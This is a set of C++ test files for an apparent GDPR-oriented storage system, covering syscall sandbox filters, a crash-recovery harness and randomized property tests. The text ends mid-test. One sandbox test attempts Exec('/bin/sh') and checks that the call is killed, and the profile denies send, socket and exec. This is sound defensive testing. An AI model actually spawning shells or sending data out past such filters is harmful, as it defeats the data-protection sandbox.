  EXPECT_EQ(filter.Evaluate(Syscall::kSend), FilterAction::kDeny);
  EXPECT_EQ(filter.Evaluate(Syscall::kSocket), FilterAction::kDeny);
  EXPECT_EQ(filter.Evaluate(Syscall::kOpen), FilterAction::kDeny);
  EXPECT_EQ(filter.Evaluate(Syscall::kExec), FilterAction::kKill);
  EXPECT_EQ(filter.Evaluate(Syscall::kFork), FilterAction::kKill);
  EXPECT_EQ(filter.Evaluate(Syscall::kGetTime), FilterAction::kAllow);
  EXPECT_EQ(filter.Evaluate(Syscall::kAlloc), FilterAction::kAllow);
}

TEST(SyscallContextTest, DeniedWriteLeaksNothing) {
  SyscallContext ctx(SyscallFilter::PdProcessingProfile(), 123);
  const Status status = ctx.Write(ToBytes("pd bytes escaping"));
  EXPECT_EQ(status.code(), StatusCode::kSyscallDenied);
  EXPECT_TRUE(ctx.leaked().empty());
  EXPECT_EQ(ctx.denied_calls(), 1u);
  EXPECT_FALSE(ctx.killed());
  // Allowed calls still work.
  auto time = ctx.GetTime();
  ASSERT_TRUE(time.ok());
  EXPECT_EQ(*time, 123);
  EXPECT_EQ(ctx.allowed_calls(), 1u);
}

TEST(SyscallContextTest, KillIsSticky) {
  SyscallContext ctx(SyscallFilter::PdProcessingProfile(), 0);
  EXPECT_EQ(ctx.Exec("/bin/sh").code(), StatusCode::kSyscallDenied);
  EXPECT_TRUE(ctx.killed());
  // After a kill, even previously allowed syscalls fail.
  EXPECT_FALSE(ctx.GetTime().ok());
  EXPECT_FALSE(ctx.Alloc(10).ok());
  EXPECT_TRUE(ctx.leaked().empty());
}

TEST(SyscallContextTest, AllowAllRecordsLeaks) {
  // The ablation profile shows exactly what WOULD leak without seccomp.
  SyscallContext ctx(SyscallFilter::AllowAll(), 0);
  EXPECT_TRUE(ctx.Write(ToBytes("pd!")).ok());
  EXPECT_TRUE(ctx.Send(ToBytes("more")).ok());
  EXPECT_EQ(ToString(ctx.leaked()), "pd!more");
}

TEST(SyscallTest, NamesAreStable) {
  EXPECT_EQ(SyscallName(Syscall::kWrite), "write");
  EXPECT_EQ(SyscallName(Syscall::kExec), "exec");
  EXPECT_EQ(OperationName(Operation::kErase), "erase");
  EXPECT_EQ(DomainName(Domain::kProcessingStore), "processing_store");
}

}  // namespace
}  // namespace rgpdos::sentinel
