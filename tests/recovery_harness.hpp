// Reusable crash-recovery harness (see DESIGN.md "Crash consistency &
// recovery").
//
// Drives a deterministic mixed PD workload — inserts, a consent
// withdrawal, a GDPR hard-delete and a crypto-erasure — against a DBFS
// stack whose raw medium sits under a FaultInjectingBlockDevice, then
// "reboots": remounts whatever survived on the medium through a FRESH
// device stack (cold caches) and checks the crash-consistency
// invariants:
//
//   I1  the surviving image mounts (InodeStore replay + Dbfs walk);
//   I2  every acknowledged Put that was not later erased is fully
//       readable with the exact row and consent state it was acked with
//       — and an acknowledged consent withdrawal stays withdrawn;
//   I3  an acknowledged erasure stays erased AND none of its plaintext
//       marker bytes appear anywhere on the medium (data region or
//       journal);
//   I4  the operation in flight at the crash is all-or-nothing: any
//       record beyond the acknowledged set must be complete and
//       readable, never half-present;
//   I5  the remounted stack accepts new writes (recovery didn't wedge
//       the store).
//
// The harness is parameterised by a FaultPlan, so the same workload
// sweeps crash-at-write-N over every write index, replays seeded CI
// plans, and exercises the transient-error retry path. Failures embed
// FaultPlan::ToString() so a red run is reproducible from the message.
//
// Sharded mode (Options::shards > 1): the image is N independent media
// behind a dbfs::ShardedDbfs facade, and the fault plan is installed on
// ONE shard's medium (Options::faulted_shard) — the crash sweep then
// proves that a crash on shard A never leaves shard B stale-visible or
// the facade wedged: every shard's journal replays independently at
// remount and the invariants hold across the union of media.
#pragma once

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "blockdev/block_cache.hpp"
#include "blockdev/block_device.hpp"
#include "blockdev/fault_injection.hpp"
#include "common/clock.hpp"
#include "core/retention.hpp"
#include "dbfs/dbfs.hpp"
#include "dbfs/sharded_dbfs.hpp"
#include "dsl/parser.hpp"
#include "sentinel/policy.hpp"

namespace rgpdos::testing {

class CrashRecoveryHarness {
 public:
  struct Options {
    std::uint32_t block_size = 512;
    std::uint64_t block_count = 4096;
    std::uint32_t inode_count = 96;
    std::uint64_t journal_blocks = 64;
    /// Block cache put in front of the remounted medium, proving
    /// recovery correctness does not depend on warm caches.
    std::uint64_t remount_cache_blocks = 64;
    /// Append a retention phase to the workload: a short-TTL record is
    /// inserted, the clock jumps past its deadline, and a bare
    /// RetentionSweeper reaps it — so the crash sweep also lands inside
    /// the sweeper's journaled hard-delete (RetentionRecovery.*).
    bool retention_sweep = false;
    /// Number of independent store shards (1 = the classic single-store
    /// harness; > 1 boots a ShardedDbfs over N media).
    std::size_t shards = 1;
    /// Which shard's medium carries the fault plan in sharded mode.
    std::size_t faulted_shard = 0;
    /// Journal format for every mount of the image (extent/physiological
    /// vs legacy whole-block records).
    bool journal_extents = true;
    /// Format the image with LEGACY whole-block records, then run the
    /// workload (and every crash remount) with extents on: the circular
    /// region is never scrubbed in between, so the sweep replays a
    /// journal holding BOTH formats at every crash point.
    bool mixed_journal_formats = false;
  };

  CrashRecoveryHarness() = default;
  explicit CrashRecoveryHarness(Options options) : options_(options) {}

  /// Fault-free run of the whole workload; returns the number of writes
  /// the fault device (on the faulted shard) saw — the sweep range for
  /// crash-at-write-N.
  Result<std::uint64_t> CountWorkloadWrites() {
    std::vector<std::unique_ptr<blockdev::MemBlockDevice>> media =
        MakeMedia();
    RGPD_RETURN_IF_ERROR(FormatMedium(RawDevices(media)));
    blockdev::FaultInjectingBlockDevice fault(
        media[options_.faulted_shard].get(), blockdev::FaultPlan{});
    Model model;
    RGPD_RETURN_IF_ERROR(RunWorkload(FaultedDevices(media, fault), model));
    return fault.fault_stats().writes_seen;
  }

  /// One full crash/recover cycle under `plan`: fresh image, workload
  /// until completion or injected crash, remount of the surviving
  /// medium, invariant checks. Any violation comes back as a non-OK
  /// status whose message starts with the plan.
  Status RunWithPlan(const blockdev::FaultPlan& plan) {
    std::vector<std::unique_ptr<blockdev::MemBlockDevice>> media =
        MakeMedia();
    if (Status s = FormatMedium(RawDevices(media)); !s.ok()) {
      return Fail(plan, "format: " + s.ToString());
    }

    Model model;
    bool crashed = false;
    {
      blockdev::FaultInjectingBlockDevice fault(
          media[options_.faulted_shard].get(), plan);
      const Status s = RunWorkload(FaultedDevices(media, fault), model);
      if (!s.ok()) {
        if (s.code() != StatusCode::kCrashed) {
          return Fail(plan, "workload failed non-crashed: " + s.ToString());
        }
        crashed = true;
      }
      if (plan.crash_at_write != 0 && !crashed) {
        return Fail(plan, "plan demanded a crash but the workload finished");
      }
    }  // the crashed stack is torn down: "power off"

    return VerifyMedium(media, model, plan);
  }

 private:
  /// Expected durable state, updated only when an operation ACKS (the
  /// call returned OK, i.e. its effects were flushed).
  struct Model {
    struct LiveRecord {
      dbfs::SubjectId subject = 0;
      std::string author;
      std::string text;
      std::string marker;
      bool reading_revoked = false;
    };
    std::map<dbfs::RecordId, LiveRecord> live;
    std::set<dbfs::RecordId> hard_deleted;
    std::set<dbfs::RecordId> enveloped;
    /// Plaintext markers that must be absent from the medium (I3).
    std::vector<std::string> erased_markers;
    /// Erasure in flight at the crash (0 = none). Its journal record may
    /// have committed just before the power cut, so EITHER outcome is
    /// legal — fully applied or fully absent — but nothing in between.
    dbfs::RecordId pending_delete = 0;
    dbfs::RecordId pending_envelope = 0;
  };

  /// A mounted DBFS over borrowed devices: the stores (one per shard)
  /// plus the API handle — a plain Dbfs at shards == 1, the ShardedDbfs
  /// facade beyond (each shard's journal replays in its own Mount).
  struct MountedFs {
    std::vector<std::unique_ptr<inodefs::InodeStore>> stores;
    std::unique_ptr<dbfs::DbfsApi> fs;
  };

  static constexpr std::string_view kTypeSource = R"(
type note {
  fields { author: string, text: string };
  consent { reading: all };
  origin: subject;
  sensitivity: medium;
}
)";

  static Status Fail(const blockdev::FaultPlan& plan, const std::string& why) {
    return Internal(plan.ToString() + " :: " + why);
  }

  std::vector<std::unique_ptr<blockdev::MemBlockDevice>> MakeMedia() const {
    std::vector<std::unique_ptr<blockdev::MemBlockDevice>> media;
    media.reserve(options_.shards);
    for (std::size_t i = 0; i < options_.shards; ++i) {
      media.push_back(std::make_unique<blockdev::MemBlockDevice>(
          options_.block_size, options_.block_count));
    }
    return media;
  }

  static std::vector<blockdev::BlockDevice*> RawDevices(
      const std::vector<std::unique_ptr<blockdev::MemBlockDevice>>& media) {
    std::vector<blockdev::BlockDevice*> devices;
    devices.reserve(media.size());
    for (const auto& m : media) devices.push_back(m.get());
    return devices;
  }

  /// The workload's device view: the faulted shard goes through the
  /// injector, every other shard talks to its raw medium.
  std::vector<blockdev::BlockDevice*> FaultedDevices(
      const std::vector<std::unique_ptr<blockdev::MemBlockDevice>>& media,
      blockdev::FaultInjectingBlockDevice& fault) const {
    std::vector<blockdev::BlockDevice*> devices = RawDevices(media);
    devices[options_.faulted_shard] = &fault;
    return devices;
  }

  /// Mount (or format) one inode store per device and assemble the API.
  Result<MountedFs> OpenFs(const std::vector<blockdev::BlockDevice*>& devices,
                           bool format) {
    MountedFs out;
    out.stores.reserve(devices.size());
    for (blockdev::BlockDevice* dev : devices) {
      if (format) {
        inodefs::InodeStore::Options store_options;
        store_options.inode_count = options_.inode_count;
        store_options.journal_blocks = options_.journal_blocks;
        store_options.journal_extents =
            options_.mixed_journal_formats ? false : options_.journal_extents;
        RGPD_ASSIGN_OR_RETURN(
            auto store,
            inodefs::InodeStore::Format(dev, store_options, &clock_));
        out.stores.push_back(std::move(store));
      } else {
        RGPD_ASSIGN_OR_RETURN(
            auto store,
            inodefs::InodeStore::Mount(dev, &clock_,
                                       metrics::LockRank::kInodefs,
                                       inodefs::RetryPolicy{},
                                       options_.journal_extents));
        out.stores.push_back(std::move(store));
      }
    }
    if (devices.size() == 1) {
      if (format) {
        RGPD_ASSIGN_OR_RETURN(
            out.fs,
            dbfs::Dbfs::Format(out.stores[0].get(), &sentinel_, &clock_));
      } else {
        RGPD_ASSIGN_OR_RETURN(
            out.fs,
            dbfs::Dbfs::Mount(out.stores[0].get(), &sentinel_, &clock_));
      }
    } else {
      std::vector<inodefs::InodeStore*> stores;
      stores.reserve(out.stores.size());
      for (const auto& s : out.stores) stores.push_back(s.get());
      if (format) {
        RGPD_ASSIGN_OR_RETURN(
            out.fs, dbfs::ShardedDbfs::Format(stores, &sentinel_, &clock_));
      } else {
        RGPD_ASSIGN_OR_RETURN(
            out.fs, dbfs::ShardedDbfs::Mount(stores, &sentinel_, &clock_));
      }
    }
    return out;
  }

  /// Format a pristine DBFS image directly on the media (no faults:
  /// the sweep models crashes during operation, not during mkfs).
  Status FormatMedium(const std::vector<blockdev::BlockDevice*>& devices) {
    RGPD_ASSIGN_OR_RETURN(MountedFs mounted, OpenFs(devices, /*format=*/true));
    RGPD_ASSIGN_OR_RETURN(dsl::TypeDecl decl, dsl::ParseType(kTypeSource));
    RGPD_RETURN_IF_ERROR(
        mounted.fs->CreateType(sentinel::Domain::kSysadmin, decl));
    for (const auto& store : mounted.stores) {
      RGPD_RETURN_IF_ERROR(store->Sync());
    }
    return Status::Ok();
  }

  /// The deterministic mixed workload. Mounts the image through
  /// `devices`, applies the op sequence, acks each op into `model` as it
  /// completes. Returns the first failure (kCrashed when the plan fired).
  Status RunWorkload(const std::vector<blockdev::BlockDevice*>& devices,
                     Model& model) {
    const bool debug = std::getenv("RGPD_HARNESS_DEBUG") != nullptr;
    blockdev::BlockDevice* faulted = devices[options_.faulted_shard];
    const auto trace = [&](const char* op) {
      if (debug) {
        const auto* fault =
            dynamic_cast<blockdev::FaultInjectingBlockDevice*>(faulted);
        std::fprintf(stderr, "[harness] after %-12s writes_seen=%llu\n", op,
                     static_cast<unsigned long long>(
                         fault != nullptr ? fault->fault_stats().writes_seen
                                          : 0));
      }
    };
    RGPD_ASSIGN_OR_RETURN(MountedFs mounted,
                          OpenFs(devices, /*format=*/false));
    dbfs::DbfsApi* fs = mounted.fs.get();
    RGPD_ASSIGN_OR_RETURN(dsl::TypeDecl decl, dsl::ParseType(kTypeSource));

    const auto put = [&](dbfs::SubjectId subject, const std::string& author,
                         const std::string& marker) -> Status {
      const std::string text = "pd payload " + marker + " of " + author;
      RGPD_ASSIGN_OR_RETURN(
          dbfs::RecordId id,
          fs->Put(sentinel::Domain::kDed, subject, "note",
                  db::Row{db::Value(author), db::Value(text)},
                  decl.DefaultMembrane(subject, clock_.Now())));
      model.live[id] = Model::LiveRecord{subject, author, text, marker, false};
      return Status::Ok();
    };
    const auto record_with_marker =
        [&](const std::string& marker) -> dbfs::RecordId {
      for (const auto& [id, rec] : model.live) {
        if (rec.text.find(marker) != std::string::npos) return id;
      }
      return 0;
    };

    // 1-3: inserts for three subjects.
    trace("mount");
    RGPD_RETURN_IF_ERROR(put(1, "alice", "PD_MARKER_A1"));
    trace("put A1");
    RGPD_RETURN_IF_ERROR(put(2, "bob", "PD_MARKER_B1"));
    trace("put B1");
    RGPD_RETURN_IF_ERROR(put(3, "carol", "PD_MARKER_C1"));
    trace("put C1");

    // 4: consent withdrawal on bob's record (GDPR Art. 7(3)).
    {
      const dbfs::RecordId id = record_with_marker("PD_MARKER_B1");
      RGPD_ASSIGN_OR_RETURN(
          membrane::Membrane m,
          fs->GetMembrane(sentinel::Domain::kDed, id));
      m.RevokeConsent("reading");
      RGPD_RETURN_IF_ERROR(
          fs->UpdateMembrane(sentinel::Domain::kDed, id, m));
      model.live[id].reading_revoked = true;
    }
    trace("revoke B1");

    // 5: another insert.
    RGPD_RETURN_IF_ERROR(put(1, "alice", "PD_MARKER_A2"));
    trace("put A2");

    // 6: hard-delete alice's first record (physical destruction).
    {
      const dbfs::RecordId id = record_with_marker("PD_MARKER_A1");
      model.pending_delete = id;
      RGPD_RETURN_IF_ERROR(fs->HardDelete(sentinel::Domain::kDed, id));
      model.pending_delete = 0;
      model.live.erase(id);
      model.hard_deleted.insert(id);
      model.erased_markers.emplace_back("PD_MARKER_A1");
    }
    trace("harddel A1");

    // 7: insert after an erasure.
    RGPD_RETURN_IF_ERROR(put(2, "bob", "PD_MARKER_B2"));
    trace("put B2");

    // 8: crypto-erase carol's record (envelope replacement).
    {
      const dbfs::RecordId id = record_with_marker("PD_MARKER_C1");
      const std::string envelope = "SEALED_ENVELOPE_FOR_CAROL";
      model.pending_envelope = id;
      RGPD_RETURN_IF_ERROR(fs->ReplaceWithEnvelope(
          sentinel::Domain::kDed, id,
          ByteSpan(reinterpret_cast<const std::uint8_t*>(envelope.data()),
                   envelope.size())));
      model.pending_envelope = 0;
      model.live.erase(id);
      model.enveloped.insert(id);
      model.erased_markers.emplace_back("PD_MARKER_C1");
    }
    trace("envelope C1");

    // 9: final insert.
    RGPD_RETURN_IF_ERROR(put(3, "carol", "PD_MARKER_C2"));
    trace("put C2");

    if (options_.retention_sweep) {
      // 10: a record whose TTL elapses before the sweep below. The
      // sweeper's hard delete is the operation the crash sweep lands in.
      const std::string text = "pd payload PD_MARKER_TTL of dave";
      membrane::Membrane m = decl.DefaultMembrane(2, clock_.Now());
      m.ttl = 500;
      RGPD_ASSIGN_OR_RETURN(
          const dbfs::RecordId ttl_id,
          fs->Put(sentinel::Domain::kDed, 2, "note",
                  db::Row{db::Value(std::string("dave")), db::Value(text)},
                  std::move(m)));
      model.live[ttl_id] =
          Model::LiveRecord{2, "dave", text, "PD_MARKER_TTL", false};
      trace("put TTL");

      // 11: time passes, the retention sweeper runs one full cycle. Like
      // a manual erasure, the expiry in flight is all-or-nothing (I4).
      clock_.Advance(1000);
      core::RetentionSweeper::Deps deps;
      deps.dbfs = fs;
      deps.clock = &clock_;
      core::RetentionOptions sweep_options;
      sweep_options.pages_per_sweep = 0;  // whole store in one sweep
      core::RetentionSweeper sweeper(std::move(deps), sweep_options);
      model.pending_delete = ttl_id;
      RGPD_ASSIGN_OR_RETURN(const core::SweepReport report,
                            sweeper.SweepOnce());
      if (report.erased != 1) {
        return Internal("retention sweep erased " +
                        std::to_string(report.erased) + " records, wanted 1");
      }
      model.pending_delete = 0;
      model.live.erase(ttl_id);
      model.hard_deleted.insert(ttl_id);
      model.erased_markers.emplace_back("PD_MARKER_TTL");
      trace("sweep TTL");
    }
    return Status::Ok();
  }

  /// Remount the surviving media through a fresh (cold) stack and check
  /// invariants I1-I5 against the acked model.
  Status VerifyMedium(
      const std::vector<std::unique_ptr<blockdev::MemBlockDevice>>& media,
      const Model& model, const blockdev::FaultPlan& plan) {
    // Fresh decorators: nothing cached from before the "power loss".
    std::vector<std::unique_ptr<blockdev::BlockCacheDevice>> caches;
    std::vector<blockdev::BlockDevice*> devices = RawDevices(media);
    if (options_.remount_cache_blocks != 0) {
      for (std::size_t i = 0; i < devices.size(); ++i) {
        caches.push_back(std::make_unique<blockdev::BlockCacheDevice>(
            devices[i], options_.remount_cache_blocks));
        if (caches.back()->CachedBlockCount() != 0) {
          return Fail(plan, "remount cache did not come up cold");
        }
        devices[i] = caches.back().get();
      }
    }

    // I1: the image mounts — every shard's journal replays in its own
    // InodeStore::Mount, then the (Sharded)Dbfs walk rebuilds the index.
    auto mounted = OpenFs(devices, /*format=*/false);
    if (!mounted.ok()) {
      return Fail(plan, "remount: " + mounted.status().ToString());
    }
    dbfs::DbfsApi* fs = mounted->fs.get();

    // I2: acked live records are intact, byte for byte. An erasure in
    // flight at the crash is checked separately below: its commit may
    // have made it to the journal before the power cut.
    for (const auto& [id, expect] : model.live) {
      if (id == model.pending_delete || id == model.pending_envelope) {
        continue;
      }
      auto rec = fs->Get(sentinel::Domain::kDed, id);
      if (!rec.ok()) {
        return Fail(plan, "acked record " + std::to_string(id) +
                              " unreadable: " + rec.status().ToString());
      }
      if (rec->erased || rec->row.size() != 2 ||
          !rec->row[0].AsString().ok() || !rec->row[1].AsString().ok() ||
          *rec->row[0].AsString() != expect.author ||
          *rec->row[1].AsString() != expect.text) {
        return Fail(plan,
                    "acked record " + std::to_string(id) + " corrupted");
      }
      if (expect.reading_revoked) {
        const auto consent = rec->membrane.consents.find("reading");
        if (consent != rec->membrane.consents.end() &&
            consent->second.kind != membrane::ConsentKind::kNone) {
          return Fail(plan, "acked consent withdrawal on record " +
                                std::to_string(id) + " resurrected");
        }
      }
    }

    // I3: acked erasures stay erased...
    for (const dbfs::RecordId id : model.hard_deleted) {
      if (auto rec = fs->Get(sentinel::Domain::kDed, id); rec.ok()) {
        return Fail(plan, "hard-deleted record " + std::to_string(id) +
                              " readable after remount");
      }
    }
    for (const dbfs::RecordId id : model.enveloped) {
      auto rec = fs->Get(sentinel::Domain::kDed, id);
      if (rec.ok() && !rec->erased) {
        return Fail(plan, "enveloped record " + std::to_string(id) +
                              " resurrected as plaintext");
      }
    }
    // ... and no erased plaintext byte survives anywhere on ANY medium
    // (data region or journal). Scanned on the RAW devices, below every
    // cache.
    for (const std::string& marker : model.erased_markers) {
      for (const auto& medium : media) {
        RGPD_ASSIGN_OR_RETURN(bool found, MediumContains(*medium, marker));
        if (found) {
          return Fail(plan, "erased marker '" + marker +
                                "' still present on the medium");
        }
      }
    }

    // I4a: an erasure in flight at the crash is all-or-nothing. Either
    // the record survives byte-exact, or the erasure fully applied — in
    // which case its plaintext must already be unrecoverable (the scrub
    // is part of the same atomic group as the unlink).
    const auto check_pending_erasure =
        [&](dbfs::RecordId id, bool envelope) -> Status {
      if (id == 0) return Status::Ok();
      const Model::LiveRecord& expect = model.live.at(id);
      auto rec = fs->Get(sentinel::Domain::kDed, id);
      const bool survived = rec.ok() && !rec->erased;
      if (survived) {
        if (rec->row.size() != 2 || !rec->row[0].AsString().ok() ||
            !rec->row[1].AsString().ok() ||
            *rec->row[0].AsString() != expect.author ||
            *rec->row[1].AsString() != expect.text) {
          return Fail(plan, "in-flight erasure target " + std::to_string(id) +
                                " survived but corrupted");
        }
        return Status::Ok();
      }
      if (!envelope && rec.status().code() != StatusCode::kNotFound) {
        return Fail(plan, "in-flight hard-delete target " +
                              std::to_string(id) + " half-present: " +
                              rec.status().ToString());
      }
      if (envelope && !rec.ok()) {
        // Envelope replacement keeps the record (erased + sealed bytes);
        // losing it entirely would be a partial application.
        return Fail(plan, "in-flight envelope target " + std::to_string(id) +
                              " vanished: " + rec.status().ToString());
      }
      // Fully erased: the plaintext must be gone from every medium.
      for (const auto& medium : media) {
        RGPD_ASSIGN_OR_RETURN(bool found,
                              MediumContains(*medium, expect.marker));
        if (found) {
          return Fail(plan, "in-flight erasure of record " +
                                std::to_string(id) + " applied but marker '" +
                                expect.marker + "' still on the medium");
        }
      }
      if (!envelope) {
        // And the subject tree must not keep a dangling link to it.
        auto ids = fs->RecordsOfSubject(sentinel::Domain::kDed,
                                        expect.subject);
        if (ids.ok() &&
            std::find(ids->begin(), ids->end(), id) != ids->end()) {
          return Fail(plan, "in-flight hard-delete of record " +
                                std::to_string(id) +
                                " applied but still linked");
        }
      }
      return Status::Ok();
    };
    RGPD_RETURN_IF_ERROR(
        check_pending_erasure(model.pending_delete, /*envelope=*/false));
    RGPD_RETURN_IF_ERROR(
        check_pending_erasure(model.pending_envelope, /*envelope=*/true));

    // I4b: anything beyond the acked set (the op in flight at the crash)
    // is all-or-nothing: if a record id is visible it must be complete.
    for (dbfs::SubjectId subject = 1; subject <= 3; ++subject) {
      auto ids = fs->RecordsOfSubject(sentinel::Domain::kDed, subject);
      if (!ids.ok()) {
        // A subject the workload never reached is legitimately absent.
        if (ids.status().code() == StatusCode::kNotFound) continue;
        return Fail(plan, "RecordsOfSubject: " + ids.status().ToString());
      }
      for (const dbfs::RecordId id : *ids) {
        if (model.live.count(id) != 0 || model.enveloped.count(id) != 0) {
          continue;
        }
        if (model.hard_deleted.count(id) != 0) {
          return Fail(plan, "hard-deleted record " + std::to_string(id) +
                                " still linked in the subject tree");
        }
        auto rec = fs->Get(sentinel::Domain::kDed, id);
        if (!rec.ok()) {
          return Fail(plan, "in-flight record " + std::to_string(id) +
                                " partially applied (unreadable): " +
                                rec.status().ToString());
        }
        if (!rec->erased &&
            (rec->row.size() != 2 || !rec->row[0].AsString().ok() ||
             !rec->row[1].AsString().ok())) {
          return Fail(plan, "in-flight record " + std::to_string(id) +
                                " partially applied (truncated row)");
        }
      }
    }

    // I5: the recovered store accepts new work — on EVERY shard (a
    // distinct subject per shard routes one Put to each).
    RGPD_ASSIGN_OR_RETURN(dsl::TypeDecl decl, dsl::ParseType(kTypeSource));
    for (std::size_t i = 0; i < media.size(); ++i) {
      const auto subject = static_cast<dbfs::SubjectId>(media.size() + i);
      auto post = fs->Put(sentinel::Domain::kDed, subject, "note",
                          db::Row{db::Value(std::string("post")),
                                  db::Value(std::string("post-recovery"))},
                          decl.DefaultMembrane(subject, clock_.Now()));
      if (!post.ok()) {
        return Fail(plan,
                    "post-recovery Put failed: " + post.status().ToString());
      }
      auto readback = fs->Get(sentinel::Domain::kDed, *post);
      if (!readback.ok()) {
        return Fail(plan, "post-recovery readback failed: " +
                              readback.status().ToString());
      }
    }
    return Status::Ok();
  }

  /// Whole-medium substring scan (handles markers spanning block
  /// boundaries by searching one contiguous image).
  static Result<bool> MediumContains(blockdev::BlockDevice& device,
                                     const std::string& marker) {
    Bytes image;
    image.reserve(device.block_count() * device.block_size());
    Bytes block;
    for (blockdev::BlockIndex b = 0; b < device.block_count(); ++b) {
      RGPD_RETURN_IF_ERROR(device.ReadBlock(b, block));
      image.insert(image.end(), block.begin(), block.end());
    }
    const std::string haystack(reinterpret_cast<const char*>(image.data()),
                               image.size());
    return haystack.find(marker) != std::string::npos;
  }

  Options options_;
  SimClock clock_{1000};
  sentinel::AuditSink audit_;
  sentinel::Sentinel sentinel_{sentinel::SecurityPolicy::RgpdDefault(),
                               &clock_, &audit_};
};

}  // namespace rgpdos::testing
