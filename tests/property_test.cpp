// Cross-cutting property tests: randomized and parameterized sweeps over
// invariants that single-example unit tests cannot pin down.
#include <gtest/gtest.h>

#include "blockdev/block_device.hpp"
#include "common/rng.hpp"
#include "dsl/parser.hpp"
#include "inodefs/inode_store.hpp"
#include "kernel/machine.hpp"
#include "membrane/membrane.hpp"

namespace rgpdos {
namespace {

// ---- Journal wrap-around ------------------------------------------------------------

TEST(JournalPropertyTest, SurvivesManyWrapArounds) {
  // A journal far smaller than the write volume: the head must wrap many
  // times without corrupting live state.
  SimClock clock(0);
  blockdev::MemBlockDevice device(512, 4096);
  inodefs::InodeStore::Options options;
  options.inode_count = 32;
  options.journal_blocks = 16;  // tiny: wraps constantly
  auto store = inodefs::InodeStore::Format(&device, options, &clock);
  ASSERT_TRUE(store.ok());
  auto id = (*store)->AllocInode(inodefs::InodeKind::kFile);
  ASSERT_TRUE(id.ok());

  Rng rng(3);
  Bytes expected;
  for (int round = 0; round < 200; ++round) {
    const std::size_t size = 1 + rng.NextBelow(900);
    Bytes data(size);
    for (auto& b : data) b = static_cast<std::uint8_t>(rng.NextU64());
    ASSERT_TRUE((*store)->WriteAt(*id, 0, data).ok()) << round;
    expected = data;
    if (round % 37 == 0) {
      auto content = (*store)->ReadAt(*id, 0, expected.size());
      ASSERT_TRUE(content.ok());
      ASSERT_EQ(*content, expected) << round;
    }
  }
  // Remount after all that wrapping: state is intact (journal replay of
  // whatever committed transactions survive must be harmless).
  ASSERT_TRUE((*store)->Sync().ok());
  store->reset();
  auto mounted = inodefs::InodeStore::Mount(&device, &clock);
  ASSERT_TRUE(mounted.ok()) << mounted.status().ToString();
  auto content = (*mounted)->ReadAt(*id, 0, expected.size());
  ASSERT_TRUE(content.ok());
  EXPECT_EQ(*content, expected);
}

TEST(JournalPropertyTest, OversizedTransactionIsRejectedCleanly) {
  SimClock clock(0);
  blockdev::MemBlockDevice device(512, 4096);
  inodefs::InodeStore::Options options;
  options.inode_count = 32;
  options.journal_blocks = 2;  // can't hold even one block image + commit
  auto store = inodefs::InodeStore::Format(&device, options, &clock);
  ASSERT_TRUE(store.ok());
  auto id = (*store)->AllocInode(inodefs::InodeKind::kFile);
  // AllocInode itself journals several blocks; with a 2-block journal
  // some operation must fail with ResourceExhausted, never corrupt.
  if (id.ok()) {
    auto write = (*store)->WriteAt(*id, 0, Bytes(2000, 1));
    if (!write.ok()) {
      EXPECT_EQ(write.code(), StatusCode::kResourceExhausted);
    }
  }
}

// ---- Random file-operation fuzz against an in-memory model ------------------------------

TEST(InodeStorePropertyTest, RandomOpsMatchShadowModel) {
  SimClock clock(0);
  blockdev::MemBlockDevice device(512, 8192);
  inodefs::InodeStore::Options options;
  options.inode_count = 16;
  options.journal_blocks = 64;
  auto store = inodefs::InodeStore::Format(&device, options, &clock);
  ASSERT_TRUE(store.ok());
  auto id = (*store)->AllocInode(inodefs::InodeKind::kFile);
  ASSERT_TRUE(id.ok());

  Rng rng(11);
  Bytes shadow;  // the file's expected content
  const std::uint64_t max_size = (*store)->MaxFileSize();
  for (int op = 0; op < 300; ++op) {
    const double dice = rng.NextDouble();
    if (dice < 0.5) {
      // Random write at a random offset.
      const std::uint64_t offset =
          rng.NextBelow(std::min<std::uint64_t>(max_size - 1000,
                                                shadow.size() + 600));
      const std::size_t size = 1 + rng.NextBelow(600);
      Bytes data(size);
      for (auto& b : data) b = static_cast<std::uint8_t>(rng.NextU64());
      ASSERT_TRUE((*store)->WriteAt(*id, offset, data).ok()) << op;
      if (shadow.size() < offset + size) shadow.resize(offset + size, 0);
      std::copy(data.begin(), data.end(),
                shadow.begin() + static_cast<std::ptrdiff_t>(offset));
    } else if (dice < 0.7) {
      // Truncate to a random smaller size.
      if (!shadow.empty()) {
        const std::uint64_t new_size = rng.NextBelow(shadow.size() + 1);
        ASSERT_TRUE(
            (*store)->Truncate(*id, new_size, rng.NextBool()).ok())
            << op;
        shadow.resize(new_size);
      }
    } else {
      // Random range read must match the shadow.
      if (!shadow.empty()) {
        const std::uint64_t offset = rng.NextBelow(shadow.size());
        const std::uint64_t length =
            1 + rng.NextBelow(shadow.size() - offset);
        auto content = (*store)->ReadAt(*id, offset, length);
        ASSERT_TRUE(content.ok()) << op;
        ASSERT_EQ(*content,
                  Bytes(shadow.begin() + static_cast<std::ptrdiff_t>(offset),
                        shadow.begin() +
                            static_cast<std::ptrdiff_t>(offset + length)))
            << op;
      }
    }
  }
  auto final_content = (*store)->ReadAll(*id);
  ASSERT_TRUE(final_content.ok());
  EXPECT_EQ(*final_content, shadow);
}

// ---- Membrane codec under random membranes ------------------------------------------------

class MembraneCodecPropertyTest
    : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(MembraneCodecPropertyTest, RandomMembranesRoundTrip) {
  Rng rng(GetParam());
  for (int i = 0; i < 200; ++i) {
    membrane::Membrane m;
    m.subject_id = rng.NextU64();
    m.type_name = rng.NextName(1 + rng.NextBelow(20));
    m.origin = static_cast<membrane::Origin>(rng.NextBelow(4));
    m.sensitivity = static_cast<membrane::Sensitivity>(rng.NextBelow(3));
    m.created_at = static_cast<TimeMicros>(rng.NextU64() >> 20);
    m.ttl = static_cast<TimeMicros>(rng.NextU64() >> 24);
    const std::size_t consents = rng.NextBelow(10);
    for (std::size_t c = 0; c < consents; ++c) {
      membrane::Consent consent;
      consent.kind =
          static_cast<membrane::ConsentKind>(rng.NextBelow(3));
      if (consent.kind == membrane::ConsentKind::kView) {
        consent.view = rng.NextName(6);
      }
      m.consents[rng.NextName(8)] = consent;
    }
    const std::size_t interfaces = rng.NextBelow(4);
    for (std::size_t c = 0; c < interfaces; ++c) {
      m.collection.push_back({rng.NextName(6), rng.NextName(12)});
    }
    m.copy_group = rng.NextU64();
    m.version = rng.NextBelow(1000);

    auto decoded = membrane::Membrane::Deserialize(m.Serialize());
